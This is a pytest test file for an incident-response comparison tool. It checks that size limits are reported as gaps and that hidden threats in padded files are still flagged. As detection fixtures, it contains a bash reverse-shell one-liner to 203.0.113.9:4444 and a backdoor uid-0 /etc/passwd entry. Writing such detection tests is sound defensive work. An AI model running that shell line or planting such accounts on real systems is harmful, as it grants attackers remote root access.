"""What is not looked at, because there is a limit, is named: nothing hides by its size."""

from __future__ import annotations

from pathlib import Path

import pytest

from irkit.compare import evidence
from irkit.compare.comparison import Comparison
from irkit.compare.contents import TEXT
from irkit.compare.evidence import Evidence
from irkit.compare.ioc import IocLists
from irkit.compare.noise import Noise
from irkit.compare.rules import load_rules
from irkit.compare.verdicts import Verdicts
from tests.unit.compare.sides import side

VERDICTS = Verdicts(load_rules(), Noise(()), None, IocLists(()))
USERS = b"root:x:0:0:root:/root:/bin/bash\n"
PAD = b"".join(b"u%d:x:%d:%d::/nonexistent:/usr/sbin/nologin\n" % (one, one, one) for one in range(2000, 30_000))


def compared(one: Evidence) -> Comparison:
    found = Comparison(VERDICTS)
    assert list(found.of_evidence(one))
    return found


def rules(found: Comparison) -> set[str]:
    return {one.rule for one in found.findings}


def test_what_is_over_the_memory_is_a_gap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(evidence, "HELD", 100)
    files = {"/a\n": b"x" * 60, "/b": b"y" * 60, "/c": b"z" * 60}
    one = side(tmp_path / "bundle", files, dict.fromkeys(files, b"new\n"))
    found = compared(one)
    (gap,) = (gap for gap in found.gaps if "originals.tar" in gap.what)
    assert gap.what.startswith("2 files") and gap.why.endswith("/b")
    assert side(tmp_path / "small", {"/a": b"x"}, {"/a": b"y"}).missed == []


@pytest.mark.thorough
def test_an_account_in_a_padded_file_is_not_overlooked(tmp_path: Path) -> None:
    assert len(PAD) > TEXT
    evil = b"sys:x:0:0::/root:/bin/sh\n"
    found = compared(side(tmp_path / "a", {"/etc/passwd": USERS}, {"/etc/passwd": USERS + evil + PAD}))
    assert {"uid0-account", "not-compared"} <= rules(found)
    found = compared(side(tmp_path / "b", {"/etc/passwd": USERS}, {"/etc/passwd": USERS + PAD + evil}))
    assert "not-compared" in rules(found)
    found = compared(side(tmp_path / "c", {"/etc/passwd": USERS + PAD}, {"/etc/passwd": USERS + evil}, originals={}))
    assert "not-compared" in rules(found), "the image's own is too large to be kept"


@pytest.mark.thorough
def test_a_long_text_is_searched_and_what_can_not_be_is_a_gap(tmp_path: Path) -> None:
    shell = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
    found = compared(side(tmp_path / "a", {}, {"/opt/run": b"# pad\n" * 200_000 + shell}))
    assert "reverse-shell-text" in rules(found) and found.gaps == []
    found = compared(side(tmp_path / "d", {}, {"/opt/run": b"# pad " * 2_000_000 + shell}))
    (gap,) = (gap for gap in found.gaps if gap.what == "1 texts")
    assert "in pieces" in gap.why and "/opt/run" in gap.why and "reverse-shell-text" in rules(found)
    old = b"# old\n" * 200_000
    found = compared(side(tmp_path / "b", {"/opt/run": old}, {"/opt/run": b"#" + old + shell}, originals={}))
    assert any("the image had" in gap.why for gap in found.gaps)
    found = compared(side(tmp_path / "c", {}, {"/opt/run": shell}))
    assert not any("texts" in gap.what for gap in found.gaps)
